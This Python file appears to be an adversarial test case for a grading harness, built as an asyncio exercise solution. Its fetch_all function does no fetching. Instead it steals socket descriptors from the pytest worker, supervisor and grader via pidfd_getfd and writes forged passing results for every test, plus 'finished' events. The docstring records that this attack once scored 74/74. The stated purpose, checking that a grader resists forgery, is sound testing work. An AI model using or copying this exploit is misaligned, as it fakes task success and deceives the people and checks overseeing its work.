"""Exercise 03 whose fetch_all steals the results socket instead of fetching; 01 is the stub.

fetch_all walks up from its test's child through every ancestor (the pytest worker, the
supervisor, the grader), takes a copy of every socket each one holds with pidfd_getfd (the
attack that once scored 74/74), and writes down each a well-formed stream: this test's
result, then a start and a passing result for every test of 01 and 03, then "finished", and
ends its process. A sound grader ignores all of it: no process that holds a results channel
may be reachable (this case runs under --sandbox, where no capability bypasses that), and
nothing out of turn is believed.
"""

import ast
import asyncio
import contextlib
import ctypes
import json
import os
from collections.abc import Awaitable, Callable
from pathlib import Path

SYS_PIDFD_OPEN = 434
SYS_PIDFD_GETFD = 438


def _nodeids() -> list[tuple[str, str, int]]:
    """(nodeid, exercise, task) of every test of 01 and 03, read from the kit's test files."""
    argv = Path("/proc/self/cmdline").read_bytes().split(b"\0")
    roots = [a.split(b"=", 1)[1].decode() for a in argv if a.startswith(b"--rootdir=")]
    found = []
    for root in roots:
        for exercise, test in (("01_coroutines", "test_coroutines"), ("03_tasks", "test_tasks")):
            rel = f"exercises/{exercise}/{test}.py"
            with contextlib.suppress(OSError, SyntaxError):
                for node in ast.parse((Path(root) / rel).read_text()).body:
                    if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
                        if node.name.startswith("test_"):
                            found.append((f"{rel}::{node.name}", exercise, 1))
    return found


def _stolen_sockets() -> tuple[list[int], list[int]]:
    """Copies of every socket held by an ancestor, and the ancestors' pids."""
    libc = ctypes.CDLL(None, use_errno=True)
    stolen, ancestors = [], []
    pid = os.getpid()
    while pid > 1:
        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        if pid <= 1:
            break
        ancestors.append(pid)
        pidfd = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
        if pidfd < 0:
            continue
        for fd in range(3, 256):
            copy = libc.syscall(SYS_PIDFD_GETFD, pidfd, fd, 0)
            if copy >= 0:
                with contextlib.suppress(OSError):
                    if os.readlink(f"/proc/self/fd/{copy}").startswith("socket:"):
                        stolen.append(copy)
                        continue
                os.close(copy)
        os.close(pidfd)
    return stolen, ancestors


def _forge() -> None:
    me = os.environ.get("PYTEST_CURRENT_TEST", "").rpartition(" ")[0]
    passing = {"status": "pass", "message": "", "output": "", "duration": 0.0}
    lines = [
        {"event": "result", "result": {"nodeid": me, "exercise": "03_tasks", "task": 2} | passing}
    ]
    for nodeid, exercise, task in _nodeids():
        if nodeid != me:
            lines.append({"event": "start", "nodeid": nodeid})
            result = {"nodeid": nodeid, "exercise": exercise, "task": task} | passing
            lines.append({"event": "result", "result": result})
    lines.append({"event": "finished"})
    lines.append({"event": "supervisor", "exit": 0, "timed_out": False, "strays": 0})
    blob = "".join(json.dumps(line) + "\n" for line in lines).encode()
    stolen, _ = _stolen_sockets()
    for fd in stolen:
        with contextlib.suppress(OSError):
            os.write(fd, blob)
    os._exit(0)


async def make_breakfast(
    brew_coffee: Callable[[], Awaitable[str]],
    toast_bread: Callable[[], Awaitable[str]],
) -> tuple[str, str]:
    coffee_task = asyncio.create_task(brew_coffee())
    try:
        toast = await toast_bread()
        return await coffee_task, toast
    finally:
        coffee_task.cancel()  # does nothing once the coffee is ready; stops it if we are cancelled


async def fetch_all(fetch: Callable[[str], Awaitable[str]], urls: list[str]) -> list[str]:
    _forge()
    return []


async def fetch_report(
    fetch: Callable[[str], Awaitable[str]], urls: list[str]
) -> tuple[dict[str, str], dict[str, Exception]]:
    results = await asyncio.gather(*(fetch(url) for url in urls), return_exceptions=True)
    pages: dict[str, str] = {}
    errors: dict[str, Exception] = {}
    for url, result in zip(urls, results, strict=True):
        if isinstance(result, Exception):
            errors[url] = result
        else:
            pages[url] = result
    return pages, errors
